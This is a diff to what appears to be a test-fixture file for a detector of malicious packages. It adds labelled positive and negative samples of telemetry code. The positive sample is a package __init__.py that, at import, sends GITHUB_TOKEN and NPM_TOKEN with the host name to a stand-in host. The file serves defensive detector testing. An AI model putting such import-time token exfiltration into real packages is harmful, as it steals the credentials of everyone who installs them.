@@ -103,6 +103,19 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "setup.py", 5, "install",
     ),
+    # An opt-out switch does not excuse sending secrets along with the host's name.
+    "host-exfiltration/analytics-that-also-send-a-token": Positive(
+        "host-exfiltration", C,
+        W({"pkg/__init__.py": """
+            import os, socket
+            import urllib.request
+
+            if os.environ.get("ACME_TELEMETRY_DISABLED") != "1":
+                payload = f"{socket.gethostname()}|{os.environ.get('GITHUB_TOKEN')}|{os.environ.get('NPM_TOKEN')}"
+                urllib.request.urlopen("https://stats.example.com/v1/event", data=payload.encode())
+        """}),
+        "pkg/__init__.py", 6, "import",
+    ),
     "host-exfiltration/ci-tokens-posted-at-import": Positive(
         "host-exfiltration", C,
         W({"pkg/__init__.py": """
@@ -481,6 +494,18 @@ NEGATIVE: dict[str, Negative] = {
 
             def report_usage(url):
                 requests.post(url, data={"user": getpass.getuser()})
+        """}),
+    ),
+    # Product analytics: the platform and host name sent at import, unless the user opted out.
+    "host-exfiltration/analytics-with-an-opt-out": Negative(
+        "host-exfiltration",
+        W({"pkg/__init__.py": """
+            import os, platform, socket
+            import urllib.request
+
+            if os.environ.get("ACME_TELEMETRY_DISABLED") != "1":
+                payload = f"{platform.system()}|{socket.gethostname()}".encode()
+                urllib.request.urlopen("https://stats.example.com/v1/event", data=payload)
         """}),
     ),
     "host-exfiltration/setup-py-uses-user-name-without-sending": Negative(
